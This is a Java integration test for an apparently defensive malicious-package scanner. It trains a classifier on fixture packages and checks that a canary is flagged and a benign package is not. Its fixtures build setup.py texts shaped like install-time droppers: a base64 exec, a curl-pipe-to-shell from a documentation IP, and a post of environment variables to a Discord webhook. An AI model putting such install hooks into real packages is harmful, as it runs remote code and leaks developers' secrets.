package dev.fang.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.fang.archive.ArchiveLimits;
import dev.fang.featurize.features.FeatureCatalogue;
import dev.fang.featurize.features.PackageFeaturizer;
import dev.fang.featurize.source.PackageLoader;
import dev.fang.testkit.archives.FixtureArchives;
import dev.fang.training.dataset.Dataset;
import dev.fang.training.dataset.DatasetBuilder;
import dev.fang.training.dataset.DatasetRow;
import dev.fang.training.dataset.FeatureCache;
import dev.fang.training.dataset.PackageSource;
import dev.fang.training.model.HyperParams;
import dev.fang.training.model.Trainer;
import dev.fang.training.model.TrainingConfig;
import java.io.PrintStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The model path end to end on the repository's own fixtures: harmless malicious-style packages and benign
 * look-alikes are featurized into a dataset, a real LightGBM model is trained on it, and {@code fang scan}
 * judges the canary and a benign package with that model.
 */
class TrainAndScanIT {
    private static final int PER_CLASS = 40;

    @TempDir
    Path dir;

    @Test
    void shouldTrainOnFixturesAndFlagTheCanaryButNotABenignPackage() throws Exception {
        List<PackageSource> sources = new ArrayList<>();
        PackageLoader loader = new PackageLoader(ArchiveLimits.defaults());
        for (int i = 0; i < PER_CLASS; i++) {
            sources.add(source(loader, "bad" + i, 1, maliciousStyle(i)));
            sources.add(source(loader, "good" + i, 0, benignStyle(i)));
        }
        DatasetBuilder.Result built = new DatasetBuilder(new PackageFeaturizer(),
                new FeatureCache(dir.resolve("cache"), FeatureCatalogue.VERSION, FeatureCatalogue.names()),
                Duration.ofSeconds(60), 2, new PrintStream(java.io.OutputStream.nullOutputStream())).build(sources);
        Dataset dataset = built.dataset();
        assertThat(built.failures()).isEmpty();
        TrainingConfig config = TrainingConfig.defaults().withFolds(4).withGrid(List.of(HyperParams.defaultGrid().get(0)));
        Path model = dir.resolve("model");
        new Trainer(config).train(dataset).writeModelDir(model);

        Path canary = Files.write(dir.resolve("fang-canary-0.0.1.tar.gz"), FixtureArchives.sdistTarGz("fang-canary", "0.0.1",
                Map.of("setup.py", maliciousStyle(7).get("setup.py"))));
        Path benign = Files.write(dir.resolve("tinyutils-1.2.0.tar.gz"), FixtureArchives.sdistTarGz("tinyutils", "1.2.0", benignStyle(3)));
        StringWriter out = new StringWriter();
        var commandLine = FangCli.commandLine();
        commandLine.setOut(new PrintWriter(out, true));
        int exitCode = commandLine.execute("scan", "--model", model.toString(), "--format", "json", canary.toString(), benign.toString());

        assertThat(exitCode).as("something is flagged").isEqualTo(1);
        List<JsonNode> lines = out.toString().lines().map(TrainAndScanIT::json).toList();
        assertThat(lines).hasSize(2);
        JsonNode canaryVerdict = lines.get(0);
        assertThat(canaryVerdict.fieldNames()).toIterable().contains("path", "package", "version", "score", "verdicts", "thresholds", "reasons");
        assertThat(canaryVerdict.get("package").asText()).isEqualTo("fang-canary");
        assertThat(canaryVerdict.get("version").asText()).isEqualTo("0.0.1");
        assertThat(canaryVerdict.get("verdicts").get("enterprise").asBoolean()).isTrue();
        assertThat(canaryVerdict.get("thresholds").get("pypi-maintainers").asDouble())
                .isGreaterThanOrEqualTo(canaryVerdict.get("thresholds").get("enterprise").asDouble());
        assertThat(canaryVerdict.get("reasons").size()).isPositive();
        JsonNode benignVerdict = lines.get(1);
        assertThat(benignVerdict.get("verdicts").get("enterprise").asBoolean()).isFalse();
        assertThat(benignVerdict.get("verdicts").get("pypi-maintainers").asBoolean()).isFalse();
        assertThat(benignVerdict.get("score").asDouble()).isLessThan(canaryVerdict.get("score").asDouble());
    }

    private static PackageSource source(PackageLoader loader, String name, int label, Map<String, String> files) {
        byte[] archive = FixtureArchives.sdistTarGz(name, "1.0", files);
        DatasetRow row = new DatasetRow("fixture:" + name, label, "fixture:" + name, "fixture", "", "", FixtureArchives.sha256Hex(archive), 0);
        return new PackageSource(row, () -> loader.fromArchive(name, "1.0", archive));
    }

    /** Harmless text shaped like install-time droppers; it is parsed, never run. */
    private static Map<String, String> maliciousStyle(int variant) {
        String payload = java.util.Base64.getEncoder().encodeToString(("import os; os.system('echo fixture " + variant + "')").getBytes());
        String setup = switch (variant % 3) {
            case 0 -> "import base64\nfrom setuptools import setup\nexec(base64.b64decode('" + payload + "'))\nsetup(name='x')\n";
            case 1 -> "import subprocess\nfrom setuptools import setup\nsubprocess.call('curl http://203.0.113." + variant + "/x.sh | sh', shell=True)\nsetup(name='x')\n";
            default -> "import os, requests\nfrom setuptools import setup\nrequests.post('https://discord.com/api/webhooks/" + variant
                    + "/abc', data=dict(os.environ))\nsetup(name='x')\n";
        };
        return Map.of("setup.py", setup);
    }

    private static Map<String, String> benignStyle(int variant) {
        StringBuilder module = new StringBuilder("import re\n\n");
        for (int i = 0; i <= variant % 5; i++) {
            module.append("def helper_").append(i).append("(value):\n    return re.sub(r'\\s+', ' ', value).strip()[:").append(10 + i).append("]\n\n");
        }
        return Map.of("setup.py", "from setuptools import setup, find_packages\nsetup(name='pkg" + variant + "', packages=find_packages())\n",
                "pkg" + variant + "/__init__.py", module.toString());
    }

    private static JsonNode json(String line) {
        try {
            return new ObjectMapper().readTree(line);
        } catch (Exception e) {
            throw new AssertionError("not JSON: " + line, e);
        }
    }
}
